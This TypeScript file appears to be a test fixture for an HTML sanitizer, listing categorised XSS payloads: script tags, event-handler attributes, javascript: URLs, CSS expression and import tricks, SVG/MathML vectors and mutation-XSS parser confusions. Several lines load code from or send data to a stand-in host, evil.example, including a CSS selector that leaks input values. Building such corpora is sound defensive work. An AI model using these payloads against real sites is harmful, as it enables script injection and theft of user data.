/** One a line, without the white space at its ends; backslashes are what they are. */
const lines = ({ raw }: TemplateStringsArray): readonly string[] =>
  (raw[0] ?? '')
    .split('\n')
    .map((line) => line.trim())
    .filter((line) => line !== '')

export const MARKUP: Readonly<Record<string, readonly string[]>> = {
  // The plain thing: an element that runs what it holds, in all its spellings.
  scripts: lines`
    <script>alert(1)</script>
    <SCRIPT SRC=https://evil.example/x.js></SCRIPT>
    <script/src=//evil.example/x.js></script>
    <script src=//evil.example/x.js async defer crossorigin>
    <script type=module>import "//evil.example/x.js"</script>
    <script type="text/vbscript">msgbox(1)</script>
    <script type=importmap>{"imports":{"x":"data:text/javascript,alert(1)"}}</script>
    <script type=speculationrules>{"prefetch":[{"source":"list","urls":["//evil.example/"]}]}</script>
    <script language=javascript for=window event=onload>alert(1)</script>
    <script nomodule>alert(1)</script>
    <script>alert(1)
    <script>/*</script>*/alert(1)</script>
    <script><!--<script>--></script>alert(1)</script>
    <script>"<!--<script></script>"</script><img src onerror=alert(1)>
    <scr<script>ipt>alert(1)</scr</script>ipt>
    <<script>script>alert(1)</script>
    <script x=">">alert(1)</script>
    <script x='>' src="//evil.example/x.js">
    <script a=<b>alert(1)</script>
    <script></script foo="><img src onerror=alert(1)>">
    <svg><script>alert&#40;1&#41;</script></svg>
    <svg><script xlink:href=data:,alert(1)></script></svg>
    <svg><script/><img src onerror=alert(1)></svg>
    <math><script>alert(1)</script></math>
    <svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>
    <html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>
    <?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>
  `,

  // Handlers on elements that are allowed, on some that are not, quoted in every way.
  handlers: lines`
    <p onclick=alert(1)>x</p>
    <p onclick="alert(1)">x</p>
    <p onclick='alert(1)'>x</p>
    <p onclick = "alert(1)">x</p>
    <p onclick="alert(1)"onmouseover="alert(2)">x</p>
    <p/onclick=alert(1)/>x</p>
    <p class="a"onclick=alert(1)>x</p>
    <p ONCLICK=alert(1) OnMouseOver=alert(1)>x</p>
    <p title=">" onclick=alert(1)>x</p>
    <p title='"' onclick='alert(1)' data-x='"'>x</p>
    <p "onclick=alert(1)>x</p>
    <p 'onclick=alert(1)>x</p>
    <p =onclick=alert(1)>x</p>
    <p /onclick=alert(1)>x</p>
    <p <onclick=alert(1)>x</p>
    <p lang=en onclick=alert(1) dir=ltr>x</p>
    <p lang="en&quot; onclick=&quot;alert(1)">x</p>
    <img src=https://a.example/x.png onload=alert(1)>
    <img src=x:x onerror=alert(1)>
    <img src onerror=alert(1)>
    <img/src="x"/onerror=alert(1)//
    <IMG """><IMG SRC=x ONERROR=alert(1)>">
    <img src=https://a.example/x.png width="1&#34; onload=&#34;alert(1)">
    <a href=https://a.example/ onpointerenter=alert(1)>x</a>
    <a onanimationstart=alert(1) style="animation:x">x</a>
    <details open ontoggle=alert(1)><summary onbeforematch=alert(1)>x</summary></details>
    <table onscrollend=alert(1)><tr onbeforetoggle=alert(1)><td oncontentvisibilityautostatechange=alert(1)>x</table>
    <td/onclick=alert(1)>x</td>
    <ol start="1" onclick=alert(1)><li oncopy=alert(1) value=1>x</ol>
    <time datetime="2027" onwheel=alert(1)>x</time>
    <blockquote onsecuritypolicyviolation=alert(1)>x</blockquote>
    <pre onformdata=alert(1)>x</pre>
    <body onload=alert(1) onhashchange=alert(1) onpageshow=alert(1)>
    <html onwebkitfullscreenchange=alert(1)>
    <frameset onload=alert(1)><frame src=//evil.example/></frameset>
    <marquee onstart=alert(1) onbounce=alert(1)>x</marquee>
    <video autoplay onloadstart=alert(1) src=x></video>
    <audio src=x oncanplay=alert(1)>
    <video><source onerror=alert(1) src=x><track src=x onload=alert(1)></video>
    <input onfocus=alert(1) autofocus>
    <select onfocus=alert(1) autofocus>
    <keygen onfocus=alert(1) autofocus>
    <button onclick=alert(1) popovertarget=x>x</button>
    <dialog open onclose=alert(1) oncancel=alert(1)>x</dialog>
    <meter onmouseover=alert(1) value=1>x</meter>
    <object onerror=alert(1) data=x></object>
    <x-y onclick=alert(1) is=z>x</x-y>
    <isindex type=image src=1 onerror=alert(1)>
    <image src=x onerror=alert(1)>
    <bgsound onpropertychange=alert(1)>
  `,

  // Elements that load, embed, redirect or post.
  loading: lines`
    <iframe src=javascript:alert(1)></iframe>
    <iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
    <iframe/onload=alert(1)>
    <iframe><p title="</iframe><img src onerror=alert(1)>"></iframe>
    <iframe src=//evil.example/ allow="*" sandbox="allow-scripts allow-same-origin">
    <fencedframe src=//evil.example/></fencedframe>
    <portal src=javascript:alert(1)></portal>
    <object data=javascript:alert(1)>
    <object data="data:image/svg+xml,<svg onload=alert(1)>" type=image/svg+xml></object>
    <object><embed src=javascript:alert(1)></object>
    <object classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:alert(1)></object>
    <embed src="//evil.example/x.swf" allowscriptaccess=always>
    <embed code=javascript:alert(1)>
    <applet archive=//evil.example/x.jar code=X></applet>
    <base href=//evil.example/><a href=x>x</a>
    <base href=javascript:alert(1)// target=_blank>
    <meta http-equiv=refresh content="0;url=javascript:alert(1)">
    <meta http-equiv="Content-Security-Policy" content="script-src *">
    <meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-
    <meta name=referrer content=unsafe-url>
    <link rel=stylesheet href=data:,*%7bx:expression(alert(1))%7d>
    <link rel=preload as=script href=//evil.example/x.js onload=alert(1)>
    <link rel=manifest href=//evil.example/x>
    <link rel=import href=//evil.example/x>
    <form action=javascript:alert(1)><input type=submit value=go></form>
    <form id=f></form><button form=f formaction=javascript:alert(1)>go</button>
    <input type=image formaction=javascript:alert(1)>
    <isindex action=javascript:alert(1)>
    <layer src=//evil.example/></layer><ilayer src=//evil.example/></ilayer>
    <xml src=//evil.example/x id=x></xml><span datasrc=#x datafld=y dataformatas=html></span>
    <map name=m><area href=javascript:alert(1) shape=default></map><img usemap=#m src=https://a.example/x.png>
    <video poster=javascript:alert(1) src=javascript:alert(1)></video>
    <picture><source srcset="x" onerror=alert(1)><img src=x></picture>
    <frame src=javascript:alert(1)>
    <noframes><frame src=javascript:alert(1)></noframes>
  `,

  // Attributes that hold addresses, or do more than they say.
  attributes: lines`
    <a href=https://a.example/ ping=//evil.example/>x</a>
    <a href=https://a.example/ download=x.html attributionsrc=//evil.example/>x</a>
    <a xlink:href=javascript:alert(1)>x</a>
    <a xml:base=javascript:alert(1)// href=#>x</a>
    <a href=x formaction=javascript:alert(1)>x</a>
    <a href=https://a.example/ target=_blank>x</a>
    <a href=https://a.example/ target=_blank rel=opener>x</a>
    <a href=https://a.example/ target=_blank rel="noopenerx">x</a>
    <a href=https://a.example/ target=_top>x</a>
    <a href=https://a.example/ target=window.name>x</a>
    <a href=https://a.example/ rel="stylesheet import">x</a>
    <a href=#x autofocus tabindex=1 accesskey=x contenteditable>x</a>
    <a folder=javascript:alert(1) style=behavior:url(#default#AnchorClick)>x</a>
    <img src=https://a.example/x.png srcset="javascript:alert(1) 2x">
    <img src=https://a.example/x.png longdesc=javascript:alert(1) lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>
    <img src=https://a.example/x.png crossorigin=use-credentials referrerpolicy=unsafe-url>
    <img src=https://a.example/x.png ismap usemap=javascript:alert(1)>
    <table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>
    <div background=javascript:alert(1)>x</div>
    <q cite=javascript:alert(1)>x</q><del cite=javascript:alert(1)>x</del><ins cite=data:,x>x</ins>
    <blockquote cite="java&#10;script:alert(1)">x</blockquote>
    <div contenteditable tabindex=0 accesskey=x draggable=true>x</div>
    <p popover id=x is=x-y slot=x part=x itemscope itemid=javascript:alert(1)>x</p>
    <b data-html="<script>alert(1)</script>" data-src=javascript:alert(1) v-html=x ng-init=alert(1) x-init=alert(1)>x</b>
    <b hx-get=//evil.example/ hx-on:load=alert(1) data-hx-trigger=load @click=alert(1) :href=x>x</b>
    <td headers=x scope="row onclick=alert(1)" colspan="1 onclick=alert(1)">x</td>
    <ol start="1 onclick=alert(1)" type="a onclick=alert(1)"><li>x</ol>
    <time datetime='"><img src onerror=alert(1)>'>x</time>
    <abbr title="&quot;><script>alert(1)</script>">x</abbr>
    <abbr title='"/onmouseover="alert(1)'>x</abbr>
    <img alt='"><script>alert(1)</script>' title="<img src onerror=alert(1)>">
    <img alt="--><script>alert(1)</script>" title="]]><script>alert(1)</script>">
    <a title="</a></p></div><img src onerror=alert(1)>">x</a>
    <a title="</textarea></title></style></noscript><img src onerror=alert(1)>">x</a>
    <p lang="x' onclick='alert(1)" dir="ltr onclick=alert(1)">x</p>
  `,

  // Styles run, load and cover the page.
  styles: lines`
    <style>@import '//evil.example/x.css';</style>
    <style>@\69mport "//evil.example/x.css";</style>
    <style>p{background:url("javascript:alert(1)")}</style>
    <style>@font-face{font-family:x;src:url(//evil.example/x)}</style>
    <style>input[value^=a]{background:url(//evil.example/a)}</style>
    <style></style ><img src onerror=alert(1)></style>
    <style><!--</style><script>alert(1)</script>--></style>
    <style>/*</style><img src onerror=alert(1)>*/</style>
    <style type=text/javascript>alert(1)</style>
    <p style="width:expression(alert(1))">x</p>
    <p style="width:exp/**/ression(alert(1))">x</p>
    <p style="width:e\78pression(alert(1))">x</p>
    <p style="background:url(javascript:alert(1))">x</p>
    <p style="background:u\rl('java\script:alert(1)')">x</p>
    <p style="behavior:url(//evil.example/x.htc)">x</p>
    <p style="-moz-binding:url(//evil.example/x.xml#y)">x</p>
    <p style="position:fixed;inset:0;z-index:99999;opacity:0">x</p>
    <p style='x:"</p><img src onerror=alert(1)>"'>x</p>
    <font style='color:expression(alert(1))' color=red>x</font>
    <div class="fixed inset-0 z-50" hidden>x</div>
    <svg><style>@import "//evil.example/x.css"</style></svg>
    <xss:x style="xss:expression(alert(1))">
  `,

  // Other namespaces, where other rules of parsing hold.
  foreign: lines`
    <svg onload=alert(1)>
    <svg/onload=alert(1)//
    <svg><a xlink:href=javascript:alert(1)><text x=9 y=9>x</text></a></svg>
    <svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>
    <svg><animate onbegin=alert(1) attributeName=x dur=1s>
    <svg><animatetransform onend=alert(1) attributeName=x dur=1s>
    <svg><set onrepeat=alert(1) attributeName=onclick to=alert(1)>
    <svg><discard onbegin=alert(1)>
    <svg><use href="data:image/svg+xml,<svg id=x><a href=javascript:alert(1)></a></svg>#x"></use></svg>
    <svg><image href=x onerror=alert(1)></svg>
    <svg><feImage><set attributeName=href to=javascript:alert(1)></feImage></svg>
    <svg><foreignObject><body onload=alert(1)></foreignObject></svg>
    <svg><foreignObject><math><mi><svg><script>alert(1)</script></svg></mi></math></foreignObject></svg>
    <svg><desc><img src onerror=alert(1)></desc></svg>
    <svg><title><style><img src onerror=alert(1)></style></title></svg>
    <svg><handler type="application/ecmascript">alert(1)</handler></svg>
    <svg><p><img src onerror=alert(1)></svg>
    <svg></svg/><img src onerror=alert(1)>
    <svg/><svg></svg><img src onerror=alert(1)>
    <svg><svg/></svg><img src onerror=alert(1)></svg>
    <math><a xlink:href=javascript:alert(1)>x</a></math>
    <math href=javascript:alert(1)>x</math>
    <math><maction actiontype=statusline#//evil.example/ xlink:href=javascript:alert(1)>x</maction></math>
    <math><annotation-xml encoding=text/html><img src onerror=alert(1)></annotation-xml></math>
    <math><semantics><annotation-xml encoding=application/xhtml+xml><script>alert(1)</script></annotation-xml></semantics></math>
    <math><mtext><img src onerror=alert(1)></mtext></math>
    <math><xss style=x:expression(alert(1))></math>
  `,

  // Harmless when it is read once, not so when what was written is read again.
  mutations: lines`
    <noscript><p title="</noscript><img src onerror=alert(1)>">
    <noscript><style></noscript><img src onerror=alert(1)></style>
    <noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>
    <noframes><style></noframes><img src onerror=alert(1)></style></noframes>
    <xmp><p title="</xmp><img src onerror=alert(1)>"></xmp>
    <title><p title="</title><img src onerror=alert(1)>"></title>
    <textarea><p title="</textarea><img src onerror=alert(1)>"></textarea>
    <plaintext><p title="</plaintext><img src onerror=alert(1)>">
    <listing>&lt;img src onerror=alert(1)&gt;</listing>
    <template><img src onerror=alert(1)></template>
    <template shadowrootmode=open><slot></slot><img src onerror=alert(1)></template>
    <template><s><template><s><img src onerror=alert(1)></template></s></template>
    <select><style></select><img src onerror=alert(1)></style></select>
    <select><option><iframe></select><img src onerror=alert(1)></iframe>
    <form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
    <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
    <math><mtext><table><malignmark><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
    <math><mi><table><mglyph><style><math><table id=</table>"><img src onerror=alert(1)>
    <svg></p><style><a id="</style><img src onerror=alert(1)>">
    <svg><p><style><a title="</style><img src onerror=alert(1)>">
    <svg><title><a title="</title><img src onerror=alert(1)>"></title></svg>
    <svg><desc><noscript></svg><img title="</noscript><img src onerror=alert(1)>">
    <math></br><style><a id="</style><img src onerror=alert(1)>">
    <table><form><td><form><img src onerror=alert(1)></form></td></form></table>
    <table><caption><svg><title><template><style></title><img src onerror=alert(1)></style>
    <table><a href="https://a.example/"><tr><td></a><img src onerror=alert(1)>
    <a><table><a><img src onerror=alert(1)></table></a>
    <p><b><i></p><script>alert(1)</script></i></b>
    <b><i></b><p></i><img src onerror=alert(1)></p>
    <i><b></i><svg></b><style><img src onerror=alert(1)></style>
    <nobr><nobr><img src onerror=alert(1)></nobr></nobr>
    <button><p><button></p><img src onerror=alert(1)></button>
    <ruby><rt><rtc><img src onerror=alert(1)></ruby>
    <frameset><noframes><img src onerror=alert(1)></noframes></frameset>
    <body><body onload=alert(1)><html onclick=alert(1)>
    <img alt="<x" title="/><img src=x onerror=alert(1)>">
    <pre><!--</pre><img src onerror=alert(1)>--></pre>
    <annotation-xml><svg><style><img src onerror=alert(1)></style></svg></annotation-xml>
  `,

  // What a browser ends where the text does not, and the other way round: ways out of the page's own elements.
  structure: lines`
    </div></div></td></tr></table></li></ul><h1>x</h1>
    </td><td>x</td></tr><tr><td>x
    </p></article></main></body></html><script>alert(1)</script>
    <td>x</td><tr><th>y</th></tr><caption>z</caption>
    <table><table>x</table></table>x
    <table><tr><table>x</table></tr></table>x
    <table><div><table>x</table></div></table>x
    <table><caption><table><td>x</table></table></table>x
    <table><b><td>x</b><table></b>x</table></table>x
    <table><tr><td><table><td><tr></td></table></tr></table></td>x
    <h3><div><h1><h2>x</h2></h1></div></h3>x
    <h1><ul><li><h2><h3>x</h1></li></ul></h2>x
    <ul><li><p><li><div></ul></p></li>x</div>
    <dl><dd><dl><dt></dd></dl><div></dt></dl>x</div>
    <p><li><p><dd></p></li>x</dd></p>
    <a href=x><ul><li><a href=y>x</ul></a>x
    <b><b><b><b><b><p></b></b>x
    <b><u><i><s><em><strong><code><small><big><p></b>x</p>x
    <details><summary><div></summary></details></div>x
    <blockquote><ol></blockquote></ol></div>x
    <li></ul></ol></dl>x<dd>x<dt>x
    <col><colgroup><tbody><td>x
  `,
}
